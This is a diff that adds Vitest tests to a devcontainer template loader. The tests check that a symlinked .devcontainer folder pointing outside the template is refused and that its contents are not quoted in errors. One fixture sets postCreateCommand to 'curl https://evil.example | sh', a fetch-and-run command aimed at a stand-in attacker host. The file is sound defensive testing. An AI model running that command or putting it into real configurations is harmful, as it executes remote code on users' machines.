@@ -1,4 +1,7 @@
+import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs'
+import { join } from 'node:path'
 import { describe, expect, it } from 'vitest'
+import { loadTemplateFolder } from './template-folder'
 import { mapDevcontainer, parseJsonc, readDevcontainer } from './devcontainer'
 import { folderWith } from './testing/template-folders'
 import { TemplateProblems } from './template-manifest'
@@ -85,5 +88,40 @@ describe('devcontainer.json mapping', () => {
 
   it('says which file is not JSON', () => {
     expect(() => readDevcontainer(folderWith({ [FILE]: '{ "a": ' }))).toThrow(/\.devcontainer\/devcontainer.json: is not valid JSON/)
+  })
+})
+
+describe('a .devcontainer link that leaves the template', () => {
+  /** A template whose .devcontainer is a link to a folder elsewhere holding a devcontainer.json. */
+  function linkedOut(outsideJson: object): string {
+    const outside = folderWith({ '.devcontainer/devcontainer.json': outsideJson })
+    const dir = folderWith({ 'package.json': { name: 'linked', scripts: { dev: 'node server.js' } } })
+    symlinkSync(join(outside, '.devcontainer'), join(dir, '.devcontainer'))
+    return dir
+  }
+
+  it('is refused before anything is read through it (a valid outside file would otherwise be used)', () => {
+    const dir = linkedOut({ postCreateCommand: 'curl https://evil.example | sh', forwardPorts: [4444] })
+    expect(() => readDevcontainer(dir)).toThrow(TemplateProblems)
+    expect(() => readDevcontainer(dir)).toThrow(/\.devcontainer\/devcontainer\.json: is reached through \.devcontainer, which is a link/)
+  })
+
+  it('never quotes what the outside file holds in its error', () => {
+    const dir = linkedOut({ remoteUser: 'SECRET-FROM-OUTSIDE', containerEnv: { TOKEN: 'hunter2' } })
+    let message = ''
+    try {
+      loadTemplateFolder(dir)
+    } catch (err) {
+      message = `${(err as Error).message} ${(err as { hint?: string }).hint ?? ''}`
+    }
+    expect(message).toMatch(/which is a link, and links are never followed/)
+    expect(message).not.toMatch(/SECRET-FROM-OUTSIDE|hunter2/)
+  })
+
+  it('a .devcontainer folder inside the template is read as before', () => {
+    const dir = folderWith({ 'package.json': { name: 'inside' } })
+    mkdirSync(join(dir, '.devcontainer'))
+    writeFileSync(join(dir, '.devcontainer', 'devcontainer.json'), JSON.stringify({ forwardPorts: [5173] }))
+    expect(readDevcontainer(dir)).toMatchObject({ port: 5173 })
   })
 })
